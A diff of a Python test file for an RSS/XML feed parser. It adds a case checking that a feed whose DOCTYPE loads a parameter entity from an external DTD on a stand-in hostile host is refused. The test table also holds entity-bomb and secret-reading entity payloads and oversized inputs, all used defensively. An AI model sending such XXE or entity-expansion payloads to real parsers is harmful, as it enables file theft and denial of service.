@@ -182,6 +182,7 @@ PARAMETER = '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://hostile.example/x.dtd"> 
     [
         (BOMB + "<rss><channel><item><title>&j;</title></item></channel></rss>", "entit"),
         (SECRET + "<rss><channel><item><title>&x;</title></item></channel></rss>", "declares entities of its own"),
+        (PARAMETER + "<rss><channel><item><title>Il pleut</title></item></channel></rss>", "declares entities of its own"),
         ("<rss><channel>" + "<a>" * 100_000, "no sound XML"),
         ("<rss><channel><item><title>" + "a" * 2_000_000, "has more than 900,000 bytes"),
         (" " * 2_000_000, "no root element|no sound XML"),
@@ -200,7 +201,8 @@ def test_hostile_and_broken_xml_is_refused(text: str, message: str):
 
 
 def test_a_file_that_only_names_a_dtd_is_read_without_it():
-    (article,) = articles(PARAMETER + "<rss><channel><item><title>Il pleut</title></item></channel></rss>")
+    beside = '<!DOCTYPE rss PUBLIC "x" "rss.dtd" [<!ENTITY % x SYSTEM "../dtd/x.dtd"> %x;]>'
+    (article,) = articles(beside + "<rss><channel><item><title>Il pleut</title></item></channel></rss>")
     assert article.title == "Il pleut"
 
 
